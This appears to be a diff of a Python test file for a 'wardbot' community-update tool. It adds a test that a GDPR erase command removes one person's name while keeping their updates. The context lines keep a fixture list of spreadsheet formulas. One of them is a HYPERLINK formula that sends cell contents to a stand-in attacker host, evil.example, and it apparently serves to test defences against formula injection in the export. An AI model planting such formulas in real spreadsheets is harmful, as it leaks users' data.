@@ -20,7 +20,7 @@ from openpyxl import load_workbook
 
 from handlers.domain import NewUpdate
 from storage.db import Database
-from storage.updates import record_update
+from storage.updates import list_updates, record_update
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")',
@@ -91,3 +91,17 @@ async def test_a_stored_control_character_does_not_break_the_xlsx_export(
         "Speedwatch[0m on Main Street",
     }
     assert "Sam Partner" in {r[11] for r in rows[1:]}
+
+
+async def test_gdpr_erase_names_the_one_person_and_keeps_their_updates_unnamed(
+    env: dict[str, str], db: Database
+) -> None:
+    await stored(db, "coffee morning run by Jo Officer, 12 came", n=1)
+    unknown = wardbot("gdpr", "erase", "--person", "slack:UNOBODY", "--yes", env=env)
+    assert unknown.returncode == 1 and "No one matching 'slack:UNOBODY'" in unknown.stderr
+    done = wardbot("gdpr", "erase", "--person", "slack:U1", "--yes", env=env)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.startswith("Erased Jo Officer (slack:U1): now ")
+    assert "1 updates kept without their author (1 texts had the name taken out)" in done.stdout
+    [update] = await list_updates(db)
+    assert update.author_key != "slack:U1" and "Jo Officer" not in update.author + update.text
